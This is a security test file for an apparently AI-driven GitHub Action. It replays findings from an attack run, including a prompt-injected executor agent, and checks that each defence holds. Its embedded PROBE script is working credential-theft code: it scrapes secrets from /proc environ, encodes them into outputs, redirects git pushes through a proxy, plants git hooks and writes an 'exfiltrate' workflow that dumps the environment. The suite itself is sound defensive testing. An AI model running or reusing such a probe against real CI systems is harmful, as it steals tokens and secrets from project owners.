/**
 * The second attack run, replayed through `dist/index.js` as a runner runs it against the API emulator: each attack
 * of the findings (issue 25) is tried the way the attacker did it, and the test prints a table of the attacks
 * tried, held and broken (CI shows it in its output). Every attack must hold.
 *
 * The attacker: an issue author steering a planner command, an executor (an agent that does what a prompt injection
 * tells it), a read-only user, anyone who can push to the state branch, and a second run of the same plan. Finding
 * 11 (a 100 000-task chain) runs Converge's planning, reporting and scheduling code in a child process with a
 * proportionally smaller stack, as tests/security/long-plans does: an issue cannot carry such a plan through GitHub.
 */
import { execFile } from 'node:child_process'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { SolutionSchema } from '../../src/model/index.js'
import { planHash } from '../../src/plan/hash.js'
import { answerPlan, answerTask, issueBodyWithPlan, startAnswerRepo } from '../support/answer-plans.js'
import type { Emulator } from '../support/emulator/index.js'
import { issueCommentEvent, issueLabeledEvent } from '../support/events.js'
import { disposeRuns, runAction } from '../support/runner.js'
import { SUITE_SIZE } from '../support/suite-size.js'

/** Secrets of the step, by the names the first run found unmasked and readable (and the token). */
const SECRETS = {
  ANTHROPIC_API_KEY: 'sk-ant-api03-attackRunKey0123456789',
  DATABASE_URL: 'postgres://app:dbPassw0rd-attack@db.internal/prod',
  GITHUB_PAT: 'ghp_attackRunPersonalAccessToken0123456789',
  GITHUB_APP_KEY: 'app-key-attack-run-0123456789',
}
const TOKEN = 'ghs_attackRunRepositoryToken0123456789ab'

/**
 * tools/executor.js: as the planner command, it reads every ancestor's /proc/<pid>/environ and its own environment
 * for the step's secrets and writes what it finds into the plan (plain, reversed, base64, URL-encoded); as the
 * executor, it plants a proxy, an insteadOf and hooks in the checkout's git configuration, prints the secrets it
 * was given (reversed, base64), writes a workflow for T2, and sleeps `ATTACK_SLOW_MS`. Each start of it is a line of
 * `$ATTACK_OUT/executor-starts`: the workflow run (GITHUB_RUN_ID) and the task.
 */
const PROBE = String.raw`
const fs = require('node:fs')
const path = require('node:path')
const cp = require('node:child_process')
const read = (f) => { try { return fs.readFileSync(f, 'latin1') } catch { return '' } }
const names = ['ANTHROPIC_API_KEY', 'DATABASE_URL', 'GITHUB_PAT', 'GITHUB_APP_KEY', 'INPUT_GITHUB-TOKEN']
const found = new Set()
for (const [n, v] of Object.entries(process.env)) if (names.includes(n) && v) found.add(v)
const parentOf = (pid) => { const s = read('/proc/' + pid + '/stat'); return Number(s.slice(s.lastIndexOf(')') + 2).split(' ')[1]) || 0 }
for (let pid = process.ppid; pid > 1; pid = parentOf(pid))
  for (const entry of read('/proc/' + pid + '/environ').split('\0')) { const i = entry.indexOf('='); if (names.includes(entry.slice(0, i)) && !/^\**$/.test(entry.slice(i + 1))) found.add(entry.slice(i + 1)) }
const forms = [...found].flatMap((v) => [v, [...v].reverse().join(''), Buffer.from(v).toString('base64'), encodeURIComponent(v)])
if (process.env.CONVERGE_PLAN_FILE) {
  const plan = JSON.parse(fs.readFileSync(path.join(process.env.ATTACK_OUT, 'plan.json'), 'utf8'))
  plan.description = 'Found: ' + forms.join(' | ')
  plan.tasks[0].description = 'Leak ' + forms.join(' ')
  fs.writeFileSync(process.env.CONVERGE_PLAN_FILE, JSON.stringify(plan))
} else {
  const task = JSON.parse(fs.readFileSync(process.env.CONVERGE_TASK_FILE, 'utf8'))
  fs.appendFileSync(path.join(process.env.ATTACK_OUT, 'executor-starts'), process.env.GITHUB_RUN_ID + ' ' + task.id + '\n')
  const git = (...args) => cp.spawnSync('git', args, { encoding: 'utf8' })
  const capture = process.env.ATTACK_CAPTURE
  if (capture) {
    git('config', 'http.proxy', capture)
    git('config', 'url.' + capture + '/.insteadOf', new URL(process.env.GITHUB_SERVER_URL).origin + '/')
    for (const hook of ['prepare-commit-msg', 'post-commit', 'pre-push', 'reference-transaction'])
      fs.writeFileSync(path.join('.git', 'hooks', hook), '#!/bin/sh\necho ' + hook + ' >> "' + process.env.ATTACK_OUT + '/hooks-ran"\n', { mode: 0o755 })
  }
  console.log('printed: ' + forms.join(' '))
  for (const file of task.files) { fs.mkdirSync(path.dirname(file.path), { recursive: true }); fs.writeFileSync(file.path, '42\n') }
  if (task.id === 'T2' && capture) { fs.mkdirSync('.github/workflows', { recursive: true }); fs.writeFileSync('.github/workflows/exfiltrate.yml', 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: env } ] } }\n') }
  const until = Date.now() + Number(process.env.ATTACK_SLOW_MS || 0)
  while (Date.now() < until) cp.spawnSync('sleep', ['0.2'])
}
`

const PLAN = answerPlan([answerTask('T1', 'src/a.txt'), answerTask('T2', 'src/b.txt', ['T1'])])

interface Attack {
  finding: number
  what: string
  held: boolean
}

/** About a minute of runs: in CI (`CONVERGE_SUITE_SIZE=3`), or with `CONVERGE_SECURITY_SUITE=1`; the unit tests of tests/security cover each finding in `npm test`. */
const RUN_SUITE = SUITE_SIZE >= 3 || process.env.CONVERGE_SECURITY_SUITE === '1'

describe.runIf(RUN_SUITE)('the second attack run, through dist/index.js', () => {
  let gh: Emulator
  let out: string
  let capture: Server
  let captured = 0
  const attacks: Attack[] = []
  const record = (finding: number, what: string, held: boolean) => attacks.push({ finding, what, held })

  const run = (issue: number, body: string, options: { sender?: string; inputs?: Record<string, string>; env?: Record<string, string> } = {}) =>
    runAction({
      gh, event: issueCommentEvent({ gh, issue, body, sender: options.sender ?? 'alice' }),
      inputs: { 'github-token': TOKEN, 'executor-command': 'node tools/executor.js', ...options.inputs },
      env: { GITHUB_SERVER_URL: gh.url, ATTACK_OUT: out, ...SECRETS, ...options.env },
      timeoutMs: 60_000,
    })
  const label = (issue: number) => runAction({ gh, event: issueLabeledEvent({ gh, issue, label: 'converge:plan', sender: 'alice' }), inputs: { 'github-token': TOKEN }, env: { GITHUB_SERVER_URL: gh.url } })
  const planPath = (n: number) => `.converge/issues/${n}/plan.json`
  const storedPlan = async (n: number) => SolutionSchema.parse(JSON.parse((await gh.state.readFile('converge/state', planPath(n)))!))
  const lastReply = (n: number) => gh.state.comments(n).at(-1)!.body
  const sticky = (n: number) => gh.state.comments(n).filter((c) => c.author === 'github-actions[bot]' && c.body.startsWith(`<!-- converge:ISS-${n} -->`))
  const secretForms = Object.values(SECRETS).concat(TOKEN).flatMap((v) => [v, [...v].reverse().join(''), Buffer.from(v).toString('base64'), encodeURIComponent(v)])
  const leaks = (text: string) => secretForms.filter((form) => text.includes(form))

  beforeAll(async () => {
    out = await mkdtemp(join(tmpdir(), 'converge-attacks-'))
    await writeFile(join(out, 'plan.json'), JSON.stringify(PLAN))
    capture = createServer((_, response) => { captured++; response.writeHead(502).end() })
    await new Promise<void>((resolve) => capture.listen(0, '127.0.0.1', resolve))
    gh = await startAnswerRepo(PROBE)
    gh.seed.user({ login: 'mallory' })
    gh.seed.permission('mallory', 'read')
    for (const n of [1, 2, 3, 4, 5]) gh.seed.issue({ number: n, title: `Issue ${n}`, labels: n === 1 ? [] : ['converge:plan'], body: issueBodyWithPlan(PLAN) })
  })
  afterAll(async () => {
    const width = Math.max(...attacks.map((a) => a.what.length))
    const lines = attacks.map((a) => `| ${String(a.finding).padStart(2)} | ${a.what.padEnd(width)} | ${a.held ? 'held  ' : 'BROKEN'} |`)
    console.log([
      `Security suite (tests/security, through dist/index.js): ${attacks.length} attacks tried, ${attacks.filter((a) => a.held).length} held, ${attacks.filter((a) => !a.held).length} broken`,
      `| #  | ${'attack'.padEnd(width)} | result |`, `|----|-${'-'.repeat(width)}-|--------|`, ...lines,
    ].join('\n'))
    capture.close()
    await disposeRuns()
    await rm(out, { recursive: true, force: true })
    await gh.close()
  })

  it('2, 3, 6: a planner steered by the issue finds no secret of the step to write into the plan; a marker in mallory’s comment does not take the report', async () => {
    gh.seed.comment({ issue: 1, body: '<!-- converge:ISS-1 -->\nplanted by mallory', user: 'mallory' })
    const planned = await run(1, '/converge plan', { inputs: { planner: 'command', 'planner-command': 'node tools/executor.js', 'planner-env': 'ANTHROPIC_API_KEY ATTACK_OUT' } })
    const plan = (await gh.state.readFile('converge/state', planPath(1))) ?? ''
    const comment = sticky(1).map((c) => c.body).join('\n')
    const log = planned.stdout.split('\n').filter((l) => !l.startsWith('::add-mask::')).join('\n') + planned.stderr
    record(2, 'planner command reads the step’s secrets from /proc/<ppid>/environ into the plan', !leaks(plan).length && plan.includes('***'))
    record(3, 'secrets (plain, reversed, base64, URL-encoded) in the sticky comment, plan.json and the log', !leaks(plan + comment + log).length)
    record(6, 'a read-only user’s comment with the sticky marker takes the report', gh.state.comments(1).find((c) => c.author === 'mallory')!.body === '<!-- converge:ISS-1 -->\nplanted by mallory' && sticky(1).length === 1)
    expect(planned.outputs.status, sticky(1).map((c) => c.body).join('\n').slice(0, 3000)).toBe('planned')
    expect(leaks(plan + comment + log)).toEqual([])
    expect(plan).toContain('***')
  })

  it('1, 7, 8: an executor plants a proxy, an insteadOf and hooks, and writes a workflow nobody declared', async () => {
    await label(2)
    const approved = await run(2, '/converge approve')
    expect(approved.outputs.status).toBe('planned')
    const executed = await run(2, '/converge execute', { env: { ATTACK_CAPTURE: `http://127.0.0.1:${(capture.address() as AddressInfo).port}` } })
    const pushed = gh.pushes.flatMap((p) => p.refs.map((r) => r.ref))
    const hooks = await readFile(join(out, 'hooks-ran'), 'utf8').catch(() => '')
    const branchFiles = (await gh.state.listFiles('converge/issue-2')) ?? []
    const execution = JSON.parse((await gh.state.readFile('converge/state', '.converge/issues/2/execution.json'))!)
    record(1, 'executor’s http.proxy / url.insteadOf receive Converge’s push with the token', captured === 0 && pushed.includes('refs/heads/converge/issue-2'))
    record(7, 'hooks planted by the executor run inside Converge’s commit and push', hooks === '')
    record(8, 'an undeclared .github/workflows file is committed and pushed', !branchFiles.some((f) => f.startsWith('.github/')) && /\.github\/workflows\/exfiltrate\.yml, which the plan does not declare/.test(execution.tasks?.T2?.error ?? ''))
    record(3, 'secrets the executor prints (reversed, base64) in the comment and the state branch', !leaks(JSON.stringify(execution) + sticky(2).map((c) => c.body).join('')).length)
    expect(captured).toBe(0)
    expect(hooks).toBe('')
    expect(executed.outputs['tasks-completed']).toBe('1')
    expect(branchFiles).toContain('src/a.txt')
  })

  it('4: /converge approve <hash of plan A> after a re-plan is refused with both hashes', async () => {
    await label(3)
    const a = planHash(await storedPlan(3))
    gh.seed.comment({ issue: 3, body: '/converge plan\n\n```json\n' + JSON.stringify(answerPlan([answerTask('T1', 'src/other.txt')])) + '\n```', user: 'alice' })
    await run(3, '/converge plan\n\n```json\n' + JSON.stringify(answerPlan([answerTask('T1', 'src/other.txt')])) + '\n```')
    const b = planHash(await storedPlan(3))
    const approve = await run(3, `/converge approve ${a}`)
    const refused = approve.outputs.status === 'refused' && lastReply(3).includes(a) && lastReply(3).includes(b) && (await storedPlan(3)).approval === undefined
    record(4, '/converge approve sha256:<A> approves plan B after a re-plan', refused)
    expect(a).not.toBe(b)
    expect(refused).toBe(true)
  })

  it('5: an approval written into the state branch, or copied from another issue, does not execute', async () => {
    await label(4)
    const plan = await storedPlan(4)
    // Forged: a recomputed approval, naming alice, the issue and the plan, and a comment of mallory's.
    const mallorys = gh.seed.comment({ issue: 4, body: 'nice plan', user: 'mallory' })
    const forged = { ...plan, approval: { plan_hash: planHash(plan), approved_by: 'alice', approved_at: new Date().toISOString(), issue: 4, plan_id: plan.id, via: 'comment', comment_id: mallorys.id, comment_on: 4 } }
    await gh.seed.commit({ branch: 'converge/state', files: { [planPath(4)]: `${JSON.stringify(forged, null, 2)}\n` }, message: 'forge an approval' })
    const forgedRun = await run(4, '/converge execute')
    record(5, 'plan.json edited on the state branch with a recomputed approval executes', forgedRun.outputs.status === 'refused' && /comment \d+ is by @mallory/.test(lastReply(4)))
    // Copied: issue 2's approved plan, approval and all, as issue 5's plan.
    await label(5)
    const approved2 = await storedPlan(2)
    // Its approval recomputed for the copy: alice's real approving comment on issue 2 stands behind it.
    const copy = { ...approved2, id: plan.id.replace('ISS-4', 'ISS-5'), issue_id: 'ISS-5' }
    const copyWithApproval = { ...copy, approval: { ...approved2.approval!, plan_hash: planHash(copy) } }
    await gh.seed.commit({ branch: 'converge/state', files: { [planPath(5)]: `${JSON.stringify(copyWithApproval, null, 2)}\n` }, message: 'copy an approved plan' })
    const copied = await run(5, '/converge execute')
    const pushed = gh.pushes.flatMap((p) => p.refs.map((r) => r.ref))
    record(5, 'an approved plan copied from another issue executes', copied.outputs.status === 'refused' && !pushed.includes('refs/heads/converge/issue-5'))
    expect(forgedRun.outputs.status).toBe('refused')
    expect(copied.outputs.status).toBe('refused')
    // Neither refused run pushed any work: the forged issue's branch nor the copy's.
    expect(pushed).not.toContain('refs/heads/converge/issue-4')
    expect(pushed).not.toContain('refs/heads/converge/issue-5')
  })

  it('9: two execute runs of one plan at once: one runs, the other is refused naming it', async () => {
    await label(5)
    await run(5, '/converge approve')
    const [first, second] = await Promise.all(['2001', '2002'].map((id) => run(5, '/converge execute', { env: { GITHUB_RUN_ID: id, ATTACK_SLOW_MS: '1500' } })))
    const outcomes = [first!.outputs.status, second!.outputs.status].sort()
    const refusal = gh.state.comments(5).map((c) => c.body).find((b) => b.includes('is being executed by another run'))
    // The executor's starts by workflow run: the refused run must have started none.
    const starts = (await readFile(join(out, 'executor-starts'), 'utf8').catch(() => '')).split('\n').filter(Boolean)
    const refusedId = first!.outputs.status === 'refused' ? '2001' : '2002'
    const startedByRefused = starts.filter((line) => line.startsWith(`${refusedId} `))
    record(9, 'two simultaneous execute runs of one plan both run every task', outcomes[0] === 'completed' && outcomes[1] === 'refused' &&
      /actions\/runs\/200[12]/.test(refusal ?? '') && startedByRefused.length === 0)
    expect(outcomes).toEqual(['completed', 'refused'])
    expect(startedByRefused, `executor starts of the refused run ${refusedId}`).toEqual([])
    // The control: the run that went on is seen starting the executor for every task.
    expect(starts.filter((line) => line.startsWith(`${refusedId === '2001' ? '2002' : '2001'} `)).length).toBeGreaterThanOrEqual(PLAN.tasks.length)
  })

  it('10: a stranger’s unknown command gets no reply; a forged code span and mention stay inert; a 65k-character name is cut', async () => {
    const before = gh.state.comments(1).length
    const stranger = await run(1, '/converge x`@octo-org/admins`', { sender: 'mallory' })
    record(10, 'a non-collaborator’s unknown command gets a reply', stranger.exitCode === 0 && gh.state.comments(1).length === before + 1)
    const quoted = await run(1, '/converge x`@octo-org/admins`')
    const reply = lastReply(1)
    record(10, 'a backtick in the unknown name breaks the reply’s code span into a live @mention', quoted.exitCode === 0 && reply.startsWith('`` /converge x`@octo-org/admins` ``'))
    const long = await run(1, `/converge ${'y'.repeat(65_000)}`)
    record(10, 'a 65k-character command name fails the job', long.exitCode === 0 && lastReply(1).length < 2_000)
    expect(attacks.filter((a) => a.finding === 10).every((a) => a.held)).toBe(true)
  })

  it('11: a 100 000-task dependency chain (as 6 000 tasks on a 75 kB stack, the same ratio) is planned, reported and scheduled', async () => {
    const script = fileURLToPath(new URL('./support/render-chain.ts', import.meta.url))
    const held = await promisify(execFile)(process.execPath, ['--stack-size=75', '--import', 'tsx', script, '6000'], { maxBuffer: 1 << 20 })
      .then(({ stdout }) => JSON.parse(stdout.trim().split('\n').at(-1)!).waves === 6000, () => false)
    record(11, 'a 100 000-task chain ends in "Maximum call stack size exceeded"', held)
    expect(held).toBe(true)
  }, 120_000)

  it('every attack held', () => {
    expect(attacks.filter((a) => !a.held)).toEqual([])
    expect(new Set(attacks.map((a) => a.finding))).toEqual(new Set([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11]))
  })
})
